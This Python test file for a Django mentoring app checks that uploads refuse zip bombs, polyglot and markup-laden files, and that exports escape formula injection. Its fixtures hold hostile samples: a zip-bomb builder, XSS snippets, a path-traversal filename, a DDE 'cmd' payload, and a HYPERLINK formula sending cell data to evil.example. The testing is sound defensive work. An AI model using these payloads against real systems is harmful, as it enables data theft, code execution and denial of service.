"""Files in and out: uploads limited by size and checked by content, XLSX imports safe against zip
bombs, and no exported cell that a spreadsheet would run as a formula."""

import io
import re
import time
import zipfile
from pathlib import Path
from urllib.parse import unquote

import docx
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from accounts.models import Role
from mentoring.academic_year import academic_year_of
from mentoring.models import Consent, Participant
from mentoring.registry import importing
from mentoring.uploads import MAX_SCAN_BYTES
from reports.exporters import FORMULA_TRIGGERS
from roadmap.models import Roadmap
from tests.accounts.factories import UserFactory
from tests.mentoring.factories import (
    ConsentFactory,
    MenteeEntryFactory,
    MentorEntryFactory,
    ParticipantFactory,
    StaffFactory,
    consent_with_scan,
)
from tests.monitoring.factories import answer, campaign, questionnaire
from tests.roadmap.factories import activity_in, activity_with_evidence, recurring_activity_in

INFLATED_MB = 300
BOMB_MESSAGE = "распаковывается больше чем в 50 МБ"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A real workbook whose sheet XML inflates to 300 MB of blanks: a few hundred KB on disk."""
    workbook = Workbook()
    workbook.active.append([column.header for column in importing.COLUMNS])
    source = io.BytesIO()
    workbook.save(source)
    bomb = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in original.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, original.read(item))
                continue
            xml = original.read(item)
            head, tail = xml.split(b"</sheetData>")
            with target.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(head)
                blanks = b" " * (1024 * 1024)
                for _ in range(INFLATED_MB):
                    sheet.write(blanks)
                sheet.write(b"</sheetData>" + tail)
    content = bomb.getvalue()
    assert len(content) < 2 * 1024 * 1024
    return content


def test_a_zip_bomb_is_refused_by_the_participant_import_quickly(zip_bomb, client, world):
    client.force_login(world.a.users[Role.CURATOR])
    client.get(reverse("registry_import"))  # the first request of a test warms up templates and middleware
    started = time.monotonic()
    response = client.post(reverse("registry_import"), {"file": SimpleUploadedFile("класс.xlsx", zip_bomb)})
    assert time.monotonic() - started < 3
    assert response.status_code == 200
    assert BOMB_MESSAGE in response.content.decode()
    assert not Participant.objects.exists()


def test_a_zip_bomb_is_refused_by_the_roadmap_import_quickly(zip_bomb, client, world):
    client.force_login(world.a.users[Role.CURATOR])
    client.get(reverse("roadmap_import"))
    started = time.monotonic()
    response = client.post(
        reverse("roadmap_import"), {"file": SimpleUploadedFile("карта.xlsx", zip_bomb), "academic_year": "2026"}
    )
    assert time.monotonic() - started < 3
    assert response.status_code == 200
    assert BOMB_MESSAGE in response.content.decode()
    assert not Roadmap.objects.filter(is_template=False).exists()


def test_the_real_template_passes_the_archive_check():
    """The limits leave room for real workbooks: the empty template is refused for having no rows,
    not for what it unpacks to."""
    with pytest.raises(importing.ImportFileError, match="нет строк с данными"):
        importing.read_workbook(io.BytesIO(importing.build_template()))


# Consent scans and activity files ---------------------------------------------------------------


def image_bytes(kind: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **options) -> bytes:
    output = io.BytesIO()
    Image.new(mode, size, "white").save(output, kind, **options)
    return output.getvalue()


def png_with_text(text: str) -> bytes:
    """A PNG that decodes, with a page in a text chunk near its start."""
    info = PngInfo()
    info.add_text("Comment", text)
    return image_bytes("PNG", pnginfo=info)


def office_zip(members: dict[str, str]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return output.getvalue()


def real_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Протокол заседания школы наставников")
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def real_xlsx() -> bytes:
    workbook = Workbook()
    workbook.active.append(["Мероприятие", "Дата"])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def ole2(stream: str) -> bytes:
    """The start of an OLE2 file whose directory names one stream (in UTF-16, as Word writes it)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + stream.encode("utf-16-le") + b"\x00" * 512


PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
NOT_A_SCAN = "не является PDF, JPEG или PNG"
NOT_A_DOCUMENT = "не PDF, не изображение JPEG или PNG"
MARKUP = "содержит веб-страницу (HTML или SVG)"
BROKEN_PDF = "PDF повреждён или загружен не полностью"
BROKEN_IMAGE = "Изображение повреждено или не является файлом JPEG или PNG"
TOO_MANY_PIXELS = "больше 50 мегапикселей"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    """A media folder of the test's own, so that «nothing is stored» looks at this test's files only."""
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def consent_post(scan) -> dict:
    return {
        "kind": "processing",
        "signed_by": "representative",
        "representative_name": "Иванова Ольга Петровна",
        "representative_document": "свидетельство о рождении",
        "signed_on": "01.09.2026",
        "scan": scan,
    }


def stored_files(folder: str) -> list[Path]:
    root = Path(settings.MEDIA_ROOT) / folder
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def assert_refused_next_to(response, field: str, message: str) -> None:
    assert response.status_code == 200
    assert any(message in error for error in response.context["form"].errors[field])
    # Crispy renders the field's errors right under it.
    assert re.search(rf'id="error_\d+_id_{field}"[^>]*>\s*<strong>[^<]*{re.escape(message)}', response.content.decode())


def assert_attachment(download, *, content_type: str, extension: str, content: bytes) -> None:
    assert download.status_code == 200
    assert download["Content-Type"] == content_type
    assert download["Content-Disposition"].startswith("attachment;")
    assert unquote(download["Content-Disposition"]).endswith(f".{extension}")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Cache-Control"] == "private, no-store"
    assert b"".join(download.streaming_content) == content


SCAN_REFUSALS = {
    "html-renamed-png": ("скан.png", b"<html><script>alert(1)</script></html>", NOT_A_SCAN),
    "exe-renamed-pdf": ("скан.pdf", b"MZ\x90\x00" + b"\x00" * 60, NOT_A_SCAN),
    "10MB-plus-1": ("скан.pdf", b"%PDF-1.4\n" + b"0" * (MAX_SCAN_BYTES + 1 - 9), "больше 10 МБ"),
    "pdf-with-html": ("скан.pdf", b"%PDF-1.4\n" + PAGE + b"\n%%EOF\n", MARKUP),
    "pdf-with-doctype-in-capitals": ("скан.pdf", b"%PDF-1.7\n%\xe2\xe3\n<!DOCTYPE HTML><P>x\n%%EOF", MARKUP),
    "pdf-with-svg": ("скан.html", b"%PDF-1.4\n" + SVG + b"\n%%EOF\n", MARKUP),
    "pdf-with-html-appended": ("скан.pdf", PDF + b"0" * 20000 + PAGE, MARKUP),
    "pdf-cut-short": ("скан.pdf", PDF[:-7] + b"0" * 2000, BROKEN_PDF),
    "png-header-svg": ("скан.png", b"\x89PNG\r\n\x1a\n" + SVG, MARKUP),
    "jpeg-header-html": ("скан.jpg", b"\xff\xd8\xff\xe0" + PAGE, MARKUP),
    "png-decoding-with-html-inside": ("скан.png", png_with_text(PAGE.decode()), MARKUP),
    "png-cut-short": ("скан.png", PNG[: len(PNG) // 2], BROKEN_IMAGE),
    "png-header-only": ("скан.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, BROKEN_IMAGE),
    "jpeg-header-junk": ("скан.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4, BROKEN_IMAGE),
    "png-decompression-bomb": ("скан.png", image_bytes("PNG", (8000, 8000), mode="1"), TOO_MANY_PIXELS),
}


@pytest.mark.parametrize(("name", "content", "message"), SCAN_REFUSALS.values(), ids=SCAN_REFUSALS.keys())
def test_a_scan_is_refused_next_to_the_field_and_nothing_is_saved(name, content, message, client, world):
    pupil = ParticipantFactory(organization=world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    response = client.post(
        reverse("consent_create", kwargs={"pk": pupil.pk}), consent_post(SimpleUploadedFile(name, content))
    )
    assert_refused_next_to(response, "scan", message)
    assert not Consent.objects.exists()
    assert stored_files(f"consents/{world.a.organization.pk}/{pupil.pk}") == []


SCAN_NAMES = {
    "pdf-called-html": ("scan.html", PDF, "application/pdf", "pdf"),
    "png-called-svg": ("x.svg", PNG, "image/png", "png"),
    "jpeg-called-pdf-html": ("a.pdf.html", JPEG, "image/jpeg", "jpg"),
    "pdf-without-extension": ("согласие Ивановой", PDF, "application/pdf", "pdf"),
    "jpeg-called-png": ("../../фото.png", JPEG, "image/jpeg", "jpg"),
    "exactly-10MB-pdf": (
        "фото.png",
        PDF[:-6] + b"0" * (MAX_SCAN_BYTES - len(PDF)) + PDF[-6:],
        "application/pdf",
        "pdf",
    ),
}


@pytest.mark.parametrize(("name", "content", "content_type", "extension"), SCAN_NAMES.values(), ids=SCAN_NAMES.keys())
def test_a_scan_is_stored_and_served_by_its_checked_type_whatever_its_name(
    name, content, content_type, extension, client, world
):
    pupil = ParticipantFactory(organization=world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    response = client.post(
        reverse("consent_create", kwargs={"pk": pupil.pk}), consent_post(SimpleUploadedFile(name, content))
    )
    assert response.status_code == 302
    consent = Consent.objects.get()
    folder, stored = consent.scan.name.rsplit("/", 1)
    assert folder == f"consents/{world.a.organization.pk}/{pupil.pk}"
    assert re.fullmatch(rf"[0-9a-f]{{32}}\.{extension}", stored)
    assert stored_files(folder) == [Path(settings.MEDIA_ROOT) / consent.scan.name]
    download = client.get(reverse("consent_scan", kwargs={"pk": consent.pk}))
    assert_attachment(download, content_type=content_type, extension=extension, content=content)
    assert f"Скан согласия {consent.pk}.{extension}" in unquote(download["Content-Disposition"])


@pytest.mark.parametrize(
    ("old_name", "content", "content_type", "extension"),
    [
        ("old.html", b"%PDF-1.4\n" + PAGE + b"\n%%EOF\n", "application/octet-stream", "bin"),
        ("old.png", PDF, "application/pdf", "pdf"),
    ],
    ids=["polyglot-stored-before-the-checks", "pdf-stored-as-png"],
)
def test_a_scan_stored_before_the_checks_is_served_by_its_content_not_its_name(
    old_name, content, content_type, extension, client, world
):
    consent = ConsentFactory(participant=ParticipantFactory(organization=world.a.organization))
    consent.scan.name = default_storage.save(f"consents/{world.a.organization.pk}/{old_name}", ContentFile(content))
    consent.save()
    client.force_login(world.a.users[Role.DIRECTOR])
    download = client.get(reverse("consent_scan", kwargs={"pk": consent.pk}))
    assert_attachment(download, content_type=content_type, extension=extension, content=content)


def test_a_scan_of_another_organization_answers_404(client, world):
    foreign = consent_with_scan(world.b.organization)
    client.force_login(world.a.users[Role.DIRECTOR])
    assert client.get(reverse("consent_scan", kwargs={"pk": foreign.pk})).status_code == 404


def test_the_admin_checks_a_scan_as_the_form_does(client, world):
    consent = consent_with_scan(world.a.organization)
    stored = consent.scan.name
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    url = reverse("admin:mentoring_consent_change", args=[consent.pk])
    form = client.get(url).context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None and name != "scan"}
    data.update(signed_on=consent.signed_on.isoformat(), allowed_publication="[]")
    response = client.post(url, {**data, "scan": SimpleUploadedFile("скан.pdf", b"%PDF-1.4\n" + SVG + b"\n%%EOF")})
    assert response.status_code == 200
    assert MARKUP in response.content.decode()
    consent.refresh_from_db()
    assert consent.scan.name == stored


def evidence_post(upload) -> dict:
    return {"status": "done", "completed_on": timezone.localdate().strftime("%d.%m.%Y"), "evidence_file": upload}


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EVIDENCE = {
    "pdf": ("протокол.pdf", PDF, "application/pdf", "pdf"),
    "docx-called-html": ("отчёт.html", real_docx(), DOCX, "docx"),
    "xlsx-called-svg": (
        "x.svg",
        real_xlsx(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "xlsx",
    ),
    "odt": (
        "отчёт",
        office_zip(
            {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>"}
        ),
        "application/vnd.oasis.opendocument.text",
        "odt",
    ),
    "doc": ("протокол.doc.html", ole2("WordDocument"), "application/msword", "doc"),
    "photo": ("фото.png", JPEG, "image/jpeg", "jpg"),
}


@pytest.mark.parametrize(("name", "content", "content_type", "extension"), EVIDENCE.values(), ids=EVIDENCE.keys())
def test_evidence_of_an_activity_is_stored_and_served_by_its_checked_type(
    name, content, content_type, extension, client, world
):
    activity = activity_in(world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    response = client.post(
        reverse("activity_status", kwargs={"pk": activity.pk}), evidence_post(SimpleUploadedFile(name, content))
    )
    assert response.status_code == 302
    activity.refresh_from_db()
    assert re.fullmatch(
        rf"roadmaps/org-{world.a.organization.pk}/{activity.roadmap_id}/[0-9a-f]{{32}}\.{extension}",
        activity.evidence_file.name,
    )
    download = client.get(reverse("activity_evidence", kwargs={"pk": activity.pk}))
    assert_attachment(download, content_type=content_type, extension=extension, content=content)
    assert f"Файл мероприятия {activity.pk}.{extension}" in unquote(download["Content-Disposition"])


EVIDENCE_REFUSALS = {
    "svg-renamed-pdf": ("протокол.pdf", SVG, NOT_A_DOCUMENT),
    "zip-of-html-renamed-docx": ("архив.docx", office_zip({"index.html": PAGE.decode()}), NOT_A_DOCUMENT),
    "ooxml-package-of-html": (
        "отчёт.docx",
        office_zip({"[Content_Types].xml": "<Types/>", "index.html": "x"}),
        NOT_A_DOCUMENT,
    ),
    "odf-declaring-html": (
        "отчёт.odt",
        office_zip({"mimetype": "text/html", "index.html": PAGE.decode()}),
        NOT_A_DOCUMENT,
    ),
    "ole2-installer": ("setup.doc", ole2("\x05SummaryInformation"), NOT_A_DOCUMENT),
    "pdf-with-html": ("протокол.pdf", b"%PDF-1.4\n" + PAGE + b"\n%%EOF\n", MARKUP),
    "png-header-svg": ("фото.png", b"\x89PNG\r\n\x1a\n" + SVG, MARKUP),
    "jpeg-cut-short": ("фото.jpg", JPEG[:200], BROKEN_IMAGE),
    "pdf-cut-short": ("протокол.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n", BROKEN_PDF),
    "20MB-plus-1": ("протокол.pdf", PDF + b"0" * (20 * 1024 * 1024 + 1 - len(PDF)), "больше 20 МБ"),
}


@pytest.mark.parametrize(("name", "content", "message"), EVIDENCE_REFUSALS.values(), ids=EVIDENCE_REFUSALS.keys())
def test_evidence_of_an_activity_is_refused_next_to_the_field_and_nothing_is_saved(
    name, content, message, client, world
):
    activity = activity_in(world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    response = client.post(
        reverse("activity_status", kwargs={"pk": activity.pk}), evidence_post(SimpleUploadedFile(name, content))
    )
    assert_refused_next_to(response, "evidence_file", message)
    activity.refresh_from_db()
    assert not activity.evidence_file and activity.status != "done"
    assert stored_files(f"roadmaps/org-{world.a.organization.pk}/{activity.roadmap_id}") == []


def test_evidence_of_an_occurrence_is_stored_and_served_by_its_checked_type(client, world):
    occurrence = recurring_activity_in(world.a.organization).occurrences.first()
    client.force_login(world.a.users[Role.DIRECTOR])
    response = client.post(
        reverse("occurrence_status", kwargs={"pk": occurrence.pk}), evidence_post(SimpleUploadedFile("a.pdf.html", PNG))
    )
    assert response.status_code == 302
    occurrence.refresh_from_db()
    assert occurrence.evidence_file.name.endswith(".png") and "a.pdf" not in occurrence.evidence_file.name
    url = reverse("activity_evidence", kwargs={"pk": occurrence.activity_id}) + f"?occurrence={occurrence.pk}"
    assert_attachment(client.get(url), content_type="image/png", extension="png", content=PNG)


def test_evidence_of_another_organization_answers_404(client, world):
    foreign = activity_with_evidence(world.b.organization)
    occurrence = recurring_activity_in(world.b.organization).occurrences.first()
    occurrence.evidence_file = ContentFile(PDF, name="протокол.pdf")
    occurrence.save()
    own = activity_in(world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    assert client.get(reverse("activity_evidence", kwargs={"pk": foreign.pk})).status_code == 404
    # Another organization's occurrence under one's own activity is not found either.
    own_url = reverse("activity_evidence", kwargs={"pk": own.pk})
    assert client.get(f"{own_url}?occurrence={occurrence.pk}").status_code == 404
    client.force_login(world.b.users[Role.CURATOR])
    assert client.get(reverse("activity_evidence", kwargs={"pk": foreign.pk})).status_code == 200


# Formula injection ------------------------------------------------------------------------------


def assert_no_formulas(content: bytes) -> int:
    """Every formula-looking text is a plain string cell with the quote prefix; returns how many."""
    workbook = load_workbook(io.BytesIO(content))
    found = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found += 1
    return found


def test_registries_carry_formula_looking_names_as_text(client, world):
    year = academic_year_of(timezone.localdate())
    organization = world.a.organization
    MenteeEntryFactory(
        participant=ParticipantFactory(organization=organization, last_name=FORMULA, class_name="@SUM(1+1)"),
        academic_year=year,
        key_request="+7 900 000 00 00",
    )
    MentorEntryFactory(
        participant=StaffFactory(organization=organization, last_name="-2+3"), academic_year=year, competencies=FORMULA
    )
    client.force_login(world.a.users[Role.CURATOR])
    for registry in ("mentees", "mentors"):
        response = client.get(reverse("registry_export", args=[registry]) + f"?year={year}")
        assert response.status_code == 200
        assert assert_no_formulas(response.content) >= 2, registry


@pytest.mark.parametrize("anonymized", [False, True])
def test_campaign_answers_carry_formula_looking_answers_as_text(anonymized, client, world):
    organization = world.a.organization
    pupil = ParticipantFactory(organization=organization, last_name=FORMULA)
    asked = questionnaire(organization, questions=[("text", "=Что понравилось?", {}), ("text", "Чего не хватило?", {})])
    made = campaign(organization, questionnaire_=asked, people=[pupil], title="=1+1")
    answer(made, pupil, {"=Что понравилось?": FORMULA, "Чего не хватило?": "\tcmd|' /C calc'!A0"})
    client.force_login(world.a.users[Role.CURATOR])
    url = reverse("campaign_export", args=[made.pk]) + ("?anonymized=1" if anonymized else "")
    response = client.get(url)
    assert response.status_code == 200
    assert assert_no_formulas(response.content) >= (3 if anonymized else 4)


def test_roadmap_export_carries_formula_looking_text_as_text(client, world):
    activity = activity_in(world.a.organization, title=FORMULA, responsible_text="=Иванова И. И.")
    client.force_login(world.a.users[Role.CURATOR])
    response = client.get(reverse("roadmap_export", kwargs={"pk": activity.roadmap_id}))
    assert response.status_code == 200
    assert assert_no_formulas(response.content) >= 1
